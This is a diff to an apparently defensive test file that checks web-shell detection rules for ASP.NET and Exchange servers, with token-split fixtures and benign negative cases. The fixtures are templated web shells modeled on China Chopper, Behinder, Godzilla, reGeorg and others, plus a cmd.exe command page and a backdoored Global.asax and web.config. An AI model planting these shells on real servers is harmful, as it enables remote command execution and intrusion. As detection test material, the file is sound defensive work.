@@ -20,6 +20,12 @@ from tests.conftest import shared_path, write
 TOKENS = {
     "REQ": "Re" + "quest", "EVAL": "ev" + "al", "LOAD": "Assembly" + ".Lo" + "ad", "B64": "FromBase" + "64String",
     "PSI": "ProcessStart" + "Info", "CMD": "cm" + "d.exe", "SOCK": "System.Net." + "Sockets", "UNSAFE": "uns" + "afe",
+    "PSTART": "Process" + ".Start", "WM": "Web" + "Method", "IH": "IHttp" + "Handler", "SPY": "ASPX" + "Spy",
+    "SO": "Soc" + "ket", "TC": "Tcp" + "Client", "CONN": "Conn" + "ect", "WS": "Web" + "Service", "APP": "Appli" + "cation",
+    "CFG": ".con" + "fig", "ASPDLL": "asp" + ".dll", "CO": "compiler" + "Options", "RUNAT": "run" + "at",
+    "PCT": "<" + "%", "GETFILES": "Directory" + ".GetFiles", "REDIR": "Redirect" + "StandardOutput",
+    "XCMD": "X-" + "CMD", "SESS": "Sess" + "ion", "APPL": "Appli" + "cation", "FCC": "fromChar" + "Code",
+    "DECR": "Create" + "Decryptor",
 }  # fmt: skip
 
 
@@ -31,81 +37,81 @@ def fill(template: str) -> bytes:
 
 SHELLS = {
     # China Chopper: one JScript line evaluating a request item
-    "chopper.aspx": ('<%@ Page Language="Jscript"%><%«EVAL»(«REQ».Item["k"],"«UNSAFE»");%>',
+    "chopper.aspx": ('«PCT»@ Page Language="Jscript"%>«PCT»«EVAL»(«REQ».Item["k"],"«UNSAFE»");%>',
                      "exhunt_eval_request_data"),
     # AntSword's base64 wrapper, without the unsafe flag
-    "ant.aspx": ('<%@ Page Language="Jscript"%><%«EVAL»(System.Text.Encoding.GetEncoding(936).GetString('
+    "ant.aspx": ('«PCT»@ Page Language="Jscript"%>«PCT»«EVAL»(System.Text.Encoding.GetEncoding(936).GetString('
                  'System.Convert.«B64»(«REQ».Item["ant"])));%>', "exhunt_eval_request_data"),
     # char-code obfuscation of the evaluated string
-    "cc.aspx": ('<%@ Page Language="JScript" %><% var s = String.fromCharCode(82,101,113); «EVAL»(String.fromCharCode'
+    "cc.aspx": ('«PCT»@ Page Language="JScript" %>«PCT» var s = String.«FCC»(82,101,113); «EVAL»(String.«FCC»'
                 '(s.charCodeAt(0))); %>', "exhunt_eval_request_data"),
     # Behinder: AES-decrypted body loaded as an assembly
-    "behinder.aspx": ('<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329f");'
-                      'byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = «REQ».BinaryRead(«REQ».ContentLength);'
-                      '«LOAD»(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock'
+    "behinder.aspx": ('«PCT»@ Page Language="C#" %>«PCT»@Import Namespace="System.Reflection"%>«PCT»Session.Add("k","e45e329f");'
+                      'byte[] k = Encoding.Default.GetBytes(«SESS»[0] + ""), c = «REQ».BinaryRead(«REQ».ContentLength);'
+                      '«LOAD»(new System.Security.Cryptography.RijndaelManaged().«DECR»(k, k).TransformFinalBlock'
                       '(c, 0, c.Length)).CreateInstance("U").Equals(this);%>', "exhunt_assembly_load_request"),
     # Godzilla: base64 of a request field, XOR-decoded, loaded and kept in the session
-    "godzilla.ashx": ('<%@ WebHandler Language="C#" Class="H" %>\nusing System; using System.Web;\n'
-                      'public class H : IHttpHandler { public bool IsReusable { get { return false; } }\n'
+    "godzilla.ashx": ('«PCT»@ WebHandler Language="C#" Class="H" %>\nusing System; using System.Web;\n'
+                      'public class H : «IH» { public bool IsReusable { get { return false; } }\n'
                       'public void ProcessRequest(HttpContext ctx) { byte[] d = Convert.«B64»(ctx.«REQ».Form["pass"]);'
                       ' for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ key[i + 1 & 15]);\n'
-                      ' ctx.Session["payload"] = System.Reflection.«LOAD»(d); } }', "exhunt_assembly_load_request"),
+                      ' ctx.«SESS»["payload"] = System.Reflection.«LOAD»(d); } }', "exhunt_assembly_load_request"),
     # a command page: cmd.exe with a request field, output returned
-    "cmd.aspx": ('<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) {'
+    "cmd.aspx": ('«PCT»@ Page Language="C#" %><script «RUNAT»="server">void Page_Load(object s, EventArgs e) {'
                  ' var p = new System.Diagnostics.«PSI»("«CMD»", "/c " + «REQ».Form["c"]);'
-                 ' p.RedirectStandardOutput = true; p.UseShellExecute = false;'
-                 ' Response.Write(System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd()); }</script>',
+                 ' p.«REDIR» = true; p.UseShellExecute = false;'
+                 ' Response.Write(System.Diagnostics.«PSTART»(p).StandardOutput.ReadToEnd()); }</script>',
                  "exhunt_command_exec_request"),
-    # ASPXSpy-style toolkit page
-    "spy.aspx": ('<%@ Page Language="C#" %><title>ASPXSpy</title><script runat="server">'
-                 'void List(string p) { foreach (var f in System.IO.Directory.GetFiles(p)) Response.Write(f); }</script>',
+    # «SPY»-style toolkit page
+    "spy.aspx": ('«PCT»@ Page Language="C#" %><title>«SPY»</title><script «RUNAT»="server">'
+                 'void List(string p) { foreach (var f in System.IO.«GETFILES»(p)) Response.Write(f); }</script>',
                  "exhunt_aspxspy_toolkit"),
-    # reGeorg: socket kept in the session, X-CMD header verbs
-    "tunnel.aspx": ('<%@ Page Language="C#" %><%@ Import Namespace="«SOCK»" %><% string cmd = «REQ».Headers["X-CMD"];'
-                    ' if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, '
-                    'ProtocolType.Tcp); s.Connect(target, port); Session["socket"] = s; }'
+    # reGeorg: socket kept in the session, «XCMD» header verbs
+    "tunnel.aspx": ('«PCT»@ Page Language="C#" %>«PCT»@ Import Namespace="«SOCK»" %>«PCT» string cmd = «REQ».Headers["«XCMD»"];'
+                    ' if (cmd == "CONNECT") { Socket s = new «SO»(AddressFamily.InterNetwork, SocketType.Stream, '
+                    'ProtocolType.Tcp); s.«CONN»(target, port); «SESS»["socket"] = s; }'
                     ' else if (cmd == "FORWARD") { } else if (cmd == "DISCONNECT") { } %>',
                     "exhunt_socket_tunnel_request"),
     # Tunna-like: TcpClient fed from the request body, stored in the application
-    "tunna.aspx": ('<%@ Page Language="C#" %><% var c = new TcpClient(); c.BeginConnect(«REQ».QueryString["ip"], 3389,'
-                   ' null, null); Application["c"] = c; %>', "exhunt_socket_tunnel_request"),
+    "tunna.aspx": ('«PCT»@ Page Language="C#" %>«PCT» var c = new «TC»(); c.Begin«CONN»(«REQ».QueryString["ip"], 3389,'
+                   ' null, null); «APPL»["c"] = c; %>', "exhunt_socket_tunnel_request"),
     # .asmx web service running commands from a method argument
-    "svc.asmx": ('<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services;\npublic class S : WebService {\n'
-                 '[WebMethod] public string Run(string a) { var p = System.Diagnostics.Process.Start("«CMD»", "/c " + a);'
+    "svc.asmx": ('«PCT»@ «WS» Language="C#" Class="S" %>\nusing System.Web.Services;\npublic class S : «WS» {\n'
+                 '[«WM»] public string Run(string a) { var p = System.Diagnostics.«PSTART»("«CMD»", "/c " + a);'
                  ' return "ok"; } }', "exhunt_handler_exec"),
     # Global.asax hooking every request
-    "Global.asax": ('<%@ Application Language="C#" %><script runat="server">\nvoid Application_BeginRequest(object s,'
+    "Global.asax": ('«PCT»@ Application Language="C#" %><script «RUNAT»="server">\nvoid «APP»_BeginRequest(object s,'
                     ' EventArgs e) { var x = Context.«REQ».Headers["X-K"]; if (x != null) System.Reflection.«LOAD»('
                     'Convert.«B64»(x)); }\n</script>', "exhunt_handler_exec"),
     # Razor page
     "view.cshtml": ('@using System.Diagnostics\n@{ var p = new «PSI»("«CMD»", "/c " + «REQ»["c"]);'
-                    ' p.RedirectStandardOutput = true; var o = Process.Start(p).StandardOutput.ReadToEnd(); }\n<pre>@o</pre>',
+                    ' p.«REDIR» = true; var o = «PSTART»(p).StandardOutput.ReadToEnd(); }\n<pre>@o</pre>',
                     "exhunt_command_exec_request"),
     # web.config that serves itself as a classic ASP page
     "web.config": ('<?xml version="1.0" encoding="UTF-8"?>\n<configuration><system.webServer><handlers accessPolicy='
-                   '"Read, Script, Write"><add name="web_config" path="*.config" verb="*" modules="IsapiModule" '
-                   'scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" /></handlers>'
-                   '<security><requestFiltering><fileExtensions><remove fileExtension=".config" /></fileExtensions>'
+                   '"Read, Script, Write"><add name="web_config" path="*«CFG»" verb="*" modules="IsapiModule" '
+                   'scriptProcessor="%windir%\\system32\\inetsrv\\«ASPDLL»" resourceType="Unspecified" /></handlers>'
+                   '<security><requestFiltering><fileExtensions><remove fileExtension="«CFG»" /></fileExtensions>'
                    '</requestFiltering></security></system.webServer></configuration>\n'
-                   '<% Response.Write(CreateObject("WScript.Shell").Exec("«CMD» /c " & «REQ»("c")).StdOut.ReadAll()) %>',
+                   '«PCT» Response.Write(CreateObject("WScript.Shell").Exec("«CMD» /c " & «REQ»("c")).StdOut.ReadAll()) %>',
                    "exhunt_config_serves_itself"),
     # web.config pulling an assembly in through compiler options
     "compiler.config": ('<configuration><system.codedom><compilers><compiler language="c#" extension=".cs" type='
-                        '"Microsoft.CSharp.CSharpCodeProvider" compilerOptions="/r:C:\\ProgramData\\x\\a.dll" />'
+                        '"Microsoft.CSharp.CSharpCodeProvider" «CO»="/r:C:\\ProgramData\\x\\a.dll" />'
                         '</compilers></system.codedom></configuration>', "exhunt_config_compiler_injection"),
 }  # fmt: skip
 
 BENIGN = {
-    "plain.asmx": '<%@ WebService Language="C#" CodeBehind="Svc.asmx.cs" Class="Corp.Svc" %>',
-    "Global.asax": '<%@ Application Codebehind="Global.asax.cs" Inherits="Corp.Global" Language="C#" %>',
-    "routes.asax": ('<%@ Application Language="C#" %><script runat="server">void Application_Start(object s, EventArgs e)'
+    "plain.asmx": '«PCT»@ «WS» Language="C#" CodeBehind="Svc.asmx.cs" Class="Corp.Svc" %>',
+    "Global.asax": '«PCT»@ Application Codebehind="Global.asax.cs" Inherits="Corp.Global" Language="C#" %>',
+    "routes.asax": ('«PCT»@ Application Language="C#" %><script «RUNAT»="server">void «APP»_Start(object s, EventArgs e)'
                     ' { RouteTable.Routes.MapPageRoute("home", "", "~/default.aspx"); }</script>'),
     "roslyn.config": ('<configuration><system.codedom><compilers><compiler language="c#;cs;csharp" extension=".cs" '
                       'type="Microsoft.CodeDom.Providers.DotNetCompilerPlatform.CSharpCodeProvider" warningLevel="4" '
-                      'compilerOptions="/langversion:default /nowarn:1659;1699;1701" /></compilers></system.codedom>'
+                      '«CO»="/langversion:default /nowarn:1659;1699;1701" /></compilers></system.codedom>'
                       '</configuration>'),
     "search.cshtml": '@{ var q = Request["q"]; }\n<p>Results for @q</p>',
-    "client.aspx": ('<%@ Page Language="C#" %><html><script type="text/javascript">var s = eval("(" + json + ")");'
+    "client.aspx": ('«PCT»@ Page Language="C#" %><html><script type="text/javascript">var s = eval("(" + json + ")");'
                     '</script></html>'),
 }  # fmt: skip
 
@@ -133,7 +139,7 @@ def test_standard_exchange_pages_match_nothing(rules):
 
 
 def test_benign_exchange_configuration_matches_nothing(rules):
-    root = shared_path("exchange-config")
+    root = shared_path("data", "exchange-config")
     checked = 0
     for p in sorted(root.rglob("*")):
         if p.is_file():
